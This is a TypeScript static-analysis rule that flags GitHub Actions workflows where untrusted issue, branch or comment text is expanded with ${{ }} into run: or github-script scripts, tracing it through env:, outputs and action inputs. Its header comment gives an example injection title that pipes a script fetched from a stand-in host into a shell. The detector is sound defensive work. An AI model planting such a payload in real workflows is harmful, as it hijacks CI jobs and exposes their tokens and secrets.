/**
 * A `run:` script (or `actions/github-script`'s `script:`) that writes an attacker's text into its
 * own source with `${{ … }}`: GitHub substitutes the expression before the shell (or Node) reads the
 * script, so an issue titled `a"; curl evil.sh | sh; echo "` runs as code, with the job's token and
 * secrets. The most common way public repositories' workflows are taken over (GitHub's "Security
 * hardening for GitHub Actions", zizmor's template-injection, CodeQL's actions/code-injection).
 *
 * The untrusted fields are listed once, in gha-expressions.ts. A field that is only compared
 * (`${{ github.head_ref == 'main' }}`) or tested (`contains(github.event.issue.body, 'x')`) puts
 * true or false in the script, not its text, and is not reported; one wrapped in a function that
 * passes text on (`toJSON(…)`, `format(…)`, `join(…)`, `a || b`) is, and so is an object that holds
 * one (`toJSON(github.event)`, `toJSON(github.event.pull_request)`, not `….pull_request.number`), or
 * a context that holds a value carrying one (`toJSON(env)`, `toJSON(steps)`, `toJSON(needs)`). A value passed through `env:`
 * and read as `"$VAR"` is never substituted into the script, which is the fix.
 *
 * Read as `${{ env.VAR }}` instead, the same value is substituted into the script text before the
 * shell runs, exactly as the field itself would be: a common slip after following that fix. So a
 * `${{ env.NAME }}` (`env['NAME']`, any case) is reported when NAME, as the step sees it (its own
 * `env:`, else its job's, else the workflow's, as GitHub resolves it), is set from an untrusted field.
 *
 * The same text reaches a script by other ways, which are followed as far as the file (and, for a
 * composite action, its callers in the tree) shows them (gha-flows.ts): an `env:` variable set from
 * another (`B: ${{ env.A }}`); a step's output that its script writes the text into (`echo
 * "title=$TITLE" >> "$GITHUB_OUTPUT"`, github-script's `return`), read later as `${{
 * steps.<id>.outputs.<name> }}`; a variable its script writes the text into with `$GITHUB_ENV` (or
 * github-script's `core.exportVariable`), read by the job's later steps as `${{ env.<name> }}`; a
 * job's `outputs:` set from one, read by the jobs that need it as
 * `${{ needs.<job>.outputs.<name> }}`; a composite action's `${{ inputs.<name> }}`, when a workflow
 * (or action) of the tree gives that input such text, or its `default:` is such text; a local
 * action's output that it sets from such text, read by its caller as `steps.<id>.outputs.<name>`,
 * or a variable its steps write such text into with `$GITHUB_ENV`, read by the caller's later steps;
 * a local reusable workflow's `on.workflow_call.outputs` set from such text, read by the jobs after
 * the calling job as `needs.<calling job>.outputs.<name>`;
 * a local reusable workflow's `${{ inputs.<name> }}`, when a job of the tree calls it (`uses:
 * ./.github/workflows/x.yml`) with such text in `with:`. Each is reported where the script expands it,
 * which is where the fix goes, and the message says where the text came from, hop by hop. Outputs
 * are reported only when the write shows the text (gha-outputs.ts): `${{ steps.*.outputs.* }}` is in
 * most workflows, and a rule that flagged every output would be ignored.
 *
 * A composite action of the repository (`action.yml`) is read the same way: its steps run in the job
 * of whichever workflow uses it and can read `github.event` directly. Its `${{ inputs.* }}` are
 * reported when a caller in the tree passes untrusted text to them, at the action's script (one fix
 * there, `env:` and `"$NAME"`, covers every caller), naming the caller. zizmor rates every input of a
 * composite action as attacker-controlled; here the callers are read instead, since an action of
 * `.github/actions/` is called by this repository's workflows, which are all in the tree, and one
 * passed only constants, or the run number, is not an injection. (An action published for others,
 * `action.yml` at the root, has callers outside the tree: those are not judged.)
 */
import { clipInput } from '../../../quoted-input.js';
import { describeOrigin, envExpression, envOrigin, readOf, wholeOrigin, wholeReadOf, WorkflowFlows, type Budget, type Origin, type ReadKind, type Scope, type WholeRead } from '../gha-flows.js';
import { injectedInputs, references } from '../gha-expressions.js';
import type { WorkflowRule } from '../rule.js';
import { actionName, type Expression, type WorkflowValue } from '../workflow.js';

/** `github.event.issue.title` → `ISSUE_TITLE`: the name the fix suggests for the environment variable. */
function variableName(input: string): string {
  const segments = input.split('.').filter((s) => s !== 'github' && s !== 'event' && s !== '*');
  return segments.slice(-2).join('_').toUpperCase().replace(/[^A-Z0-9_]/g, '_');
}

export const rule: WorkflowRule = {
  info: {
    id: 'gha-script-injection',
    kind: 'runtime',
    severity: 'high',
    confidence: 'high',
    title: 'Untrusted input expanded into a workflow script',
    help: 'GitHub substitutes ${{ … }} into a run: script (or actions/github-script\'s script:) before the shell reads it, so text anyone can set (an issue or pull request title or body, a branch name, a comment, a commit message) becomes code that runs with the job\'s token and secrets. Pass the value through env: (env: TITLE: ${{ github.event.issue.title }}) and use "$TITLE", quoted, in the script (process.env.TITLE in github-script).',
  },
  check(workflow, report, unchecked, context) {
    // Each written script once: one given to several steps by an alias is one place to change. What
    // it reads (`${{ env.* }}`, outputs, inputs) is resolved again in each step it is given to (each
    // sees its own env: and outputs), but each expression is reported once, and each script once
    // per distinct set of what it reads.
    const seen = new Map<WorkflowValue, ScriptReads>();
    const budget: Budget = { left: LOOKUP_BUDGET };
    const flows = new WorkflowFlows(workflow, context, budget);
    flows.walk((step, scope) => {
      const owner = workflow.kind === 'action' ? 'Composite action' : `Job ${clipInput(step.job, 60)}`;
      const script = step.uses && actionName(step.uses.value) === 'actions/github-script' ? step.with.get('script') : undefined;
      for (const [value, how] of [[step.run, 'run'], [script, 'github-script']] as const) {
        if (!value) continue;
        let reads = seen.get(value);
        if (!reads) {
          reads = reportScript(value, how, owner, report);
          seen.set(value, reads);
        }
        if (reads.pendingCount > 0 && budget.left > 0) reportReads(reads, scope, { how, owner, where: how === 'run' ? 'the run: script' : 'the github-script script' }, report, budget);
      }
    });
    if (budget.left <= 0) unchecked(`following where its \${{ }} values come from (env:, step and job outputs) needs more than ${LOOKUP_BUDGET.toLocaleString('en-US')} look-ups (scripts and env: maps given to thousands of steps by aliases), so those left were not checked`);
  },
};

type Report = Parameters<WorkflowRule['check']>[1];

/**
 * Look-ups a file may cost. A script and env: maps given by aliases to thousands of steps, each with
 * env: of its own, made the resolution below quadratic (8,000 jobs of a constructed 800 KB workflow:
 * 4.1 s against 0.8 s without it); real workflows need hundreds. Past it, what is left is said (the
 * scan is partial), never passed.
 */
const LOOKUP_BUDGET = 1_000_000;

/**
 * A script's reads not reported yet, by kind and lower-case key (`title` for `env.title`: GitHub
 * reads `env.title` as `TITLE`, expression property names ignoring case; `t.title` for
 * `steps.t.outputs.title`), and the contexts it was resolved in.
 */
interface ScriptReads {
  pending: Record<ReadKind, Map<string, Expression[]>>;
  /** Whole contexts read (`toJSON(steps)`, `toJSON(env)`), each with its expression, until one is reported. */
  wholes: { expression: Expression; whole: WholeRead; spelled: string }[];
  /** The kinds those read (kept when they are reported: a context resolved once more costs little). */
  wholeKinds: Set<ReadKind>;
  pendingCount: number;
  resolvedIn: Set<string>;
  /** Expressions reported for a value they read (one may read several). */
  reported: Set<Expression>;
}

interface Place {
  how: 'run' | 'github-script';
  owner: string;
  where: string;
}

/** The direct findings of a script, and what else it reads, left to resolve in each step it is given to. */
function reportScript(script: WorkflowValue, how: 'run' | 'github-script', owner: string, report: Report): ScriptReads {
  const reads: ScriptReads = { pending: { env: new Map(), steps: new Map(), needs: new Map(), inputs: new Map() }, wholes: [], wholeKinds: new Set(), pendingCount: 0, resolvedIn: new Set(), reported: new Set() };
  const where = how === 'run' ? 'the run: script' : 'the github-script script';
  for (const expression of script.expressions) {
    const inputs = injectedInputs(expression.text);
    if (inputs.length === 0) {
      for (const ref of references(expression.text)) {
        const read = ref.flows ? readOf(ref.path) : null;
        const whole = ref.flows && !read ? wholeReadOf(ref.path) : null;
        if (whole) {
          reads.wholes.push({ expression, whole, spelled: ref.path.join('.') });
          reads.wholeKinds.add(whole.kind);
          reads.pendingCount++;
        }
        if (!read) continue;
        const list = reads.pending[read.kind].get(read.key);
        if (list) list.push(expression);
        else {
          reads.pending[read.kind].set(read.key, [expression]);
          reads.pendingCount++;
        }
      }
      continue;
    }
    const first = inputs[0]!;
    const what = first.whole ? `${first.reference}, which holds ${first.input} (text anyone can set),` : `${first.reference} (text anyone can set)`;
    const more = inputs.length > 1 ? ` and ${inputs.length - 1} more untrusted field${inputs.length > 2 ? 's' : ''}` : '';
    const name = variableName(first.input);
    // The expression as written (`toJSON(github.event.issue)`) goes into env: as it is, when short enough to show.
    const written = expression.text.trim();
    const value = written.length <= 80 && !written.includes('\n') ? written : first.input;
    report({
      line: expression.line,
      column: expression.column,
      message: `${owner}: ${where} expands ${what}${more} with \${{ }}, so that text becomes part of the ${how === 'run' ? 'shell script' : 'JavaScript'} and runs with the job's token and secrets.`,
      fix:
        how === 'run'
          ? `Pass it through env: (env: ${name}: \${{ ${value} }}) and use "$${name}", quoted, in the script.`
          : `Pass it through env: (env: ${name}: \${{ ${value} }}) and read process.env.${name} in the script.`,
    });
  }
  return reads;
}

/**
 * Reports the script's pending reads that, as this step sees them, carry untrusted text. A script is
 * resolved once per distinct context of what it reads (steps without env: are one), and a reported
 * read leaves pending. For `env.*`, each time walking the smaller of its pending names and those
 * maps' variables: a script aliased into thousands of steps with env: of their own costs what its
 * steps' env: do, not steps times expressions (only a script and a large env: map both aliased into
 * thousands of jobs with env: of their own would make both sides large, each job once). The other
 * kinds are empty in nearly every step and cost nothing there; else the smaller side again.
 */
function reportReads(reads: ScriptReads, scope: Scope, place: Place, report: Report, budget: Budget): void {
  const [stepIndex, writtenIndex, jobIndex, workflowIndex] = scope.env;
  const reading = (kind: ReadKind) => reads.pending[kind].size > 0 || reads.wholeKinds.has(kind);
  const context = [
    reading('env') ? `${stepIndex.id}/${writtenIndex.id}/${jobIndex.id}/${workflowIndex.id}` : '',
    reading('steps') ? scope.steps.id : '',
    reading('needs') ? scope.needs.id : '',
    reading('inputs') ? scope.inputs.id : '',
  ].join('|');
  if (reads.resolvedIn.has(context)) return;
  reads.resolvedIn.add(context);
  const found = (kind: ReadKind, key: string, origin: Origin | null) => {
    const expressions = reads.pending[kind].get(key);
    if (!origin || !expressions) return;
    for (const expression of expressions) {
      if (reads.reported.has(expression)) continue;
      reads.reported.add(expression);
      reportRead(expression, key, origin, place, report);
    }
    reads.pending[kind].delete(key);
    reads.pendingCount--;
  };
  const env = reads.pending.env;
  if (env.size === 0) {
    // nothing to look up
  } else if (env.size <= stepIndex.byName.size + writtenIndex.untrusted.length + jobIndex.byName.size + workflowIndex.untrusted.length) {
    budget.left -= env.size;
    for (const lower of [...env.keys()]) found('env', lower, WorkflowFlows.variableOrigin(scope.env, lower, envExpression));
  } else {
    // Each map's variables that no nearer map names: step, then $GITHUB_ENV (which holds only untrusted ones), job, workflow.
    budget.left -= stepIndex.byName.size + writtenIndex.untrusted.length + jobIndex.byName.size + workflowIndex.untrusted.length;
    for (const [lower, v] of stepIndex.byName) found('env', lower, envOrigin(v, 'step', envExpression(v.name)));
    for (const v of writtenIndex.untrusted) {
      const lower = v.name.toLowerCase();
      if (!stepIndex.byName.has(lower)) found('env', lower, envOrigin(v, 'github-env', envExpression(v.name)));
    }
    for (const [lower, v] of jobIndex.byName) if (!stepIndex.byName.has(lower) && !writtenIndex.byName.has(lower)) found('env', lower, envOrigin(v, 'job', envExpression(v.name)));
    for (const v of workflowIndex.untrusted) {
      const lower = v.name.toLowerCase();
      if (!stepIndex.byName.has(lower) && !writtenIndex.byName.has(lower) && !jobIndex.byName.has(lower)) found('env', lower, envOrigin(v, 'workflow', envExpression(v.name)));
    }
  }
  if (reads.wholes.length > 0) {
    const left: ScriptReads['wholes'] = [];
    for (const w of reads.wholes) {
      const origin = reads.reported.has(w.expression) ? null : wholeOrigin(w.whole, w.spelled, scope, budget);
      if (origin) {
        reads.reported.add(w.expression);
        reportRead(w.expression, w.spelled, origin, place, report);
        reads.pendingCount--;
      } else if (!reads.reported.has(w.expression)) left.push(w);
      else reads.pendingCount--;
    }
    reads.wholes = left;
  }
  for (const kind of ['steps', 'needs', 'inputs'] as const) {
    const pending = reads.pending[kind];
    const tainted = scope[kind].byKey;
    if (pending.size === 0 || tainted.size === 0) continue;
    budget.left -= Math.min(pending.size, tainted.size);
    if (pending.size <= tainted.size) for (const key of [...pending.keys()]) found(kind, key, tainted.get(key) ?? null);
    else for (const [key, origin] of tainted) found(kind, key, origin);
  }
}

/** A read reported at its expression; `key` is what it read (`title`, `<id>.<name>`), whose last part names the variable the fix suggests. */
function reportRead(expression: Expression, key: string, origin: Origin, place: Place, report: Report): void {
  const language = place.how === 'run' ? 'shell script' : 'JavaScript';
  let fix: string;
  if (origin.kind === 'env' || origin.kind === 'env-file') {
    // The variable is in the script's environment already (its env:, or $GITHUB_ENV's).
    const name = clipInput(origin.name, 60);
    fix =
      place.how === 'run'
        ? `Use "$${name}", quoted, in the script instead of \${{ env.${name} }}: the shell then reads the variable as data.`
        : `Read process.env.${name} in the script instead of \${{ env.${name} }}: the script then reads the variable as data.`;
  } else {
    const written = expression.text.trim();
    const value = written.length <= 80 && !written.includes('\n') ? written : clipInput(origin.kind === 'field' ? origin.reference : origin.spelled, 80);
    const name = key.slice(key.lastIndexOf('.') + 1).toUpperCase().replace(/[^A-Z0-9_]/g, '_').replace(/^(?=\d)/, '_') || 'VALUE';
    fix = place.how === 'run' ? `Pass it through env: (env: ${name}: \${{ ${value} }}) and use "$${name}", quoted, in the script.` : `Pass it through env: (env: ${name}: \${{ ${value} }}) and read process.env.${name} in the script.`;
  }
  report({
    line: expression.line,
    column: expression.column,
    message: `${place.owner}: ${place.where} expands ${describeOrigin(origin)}; GitHub substitutes it before the script runs, so that text becomes part of the ${language} and runs with the job's token and secrets.`,
    fix,
  });
}
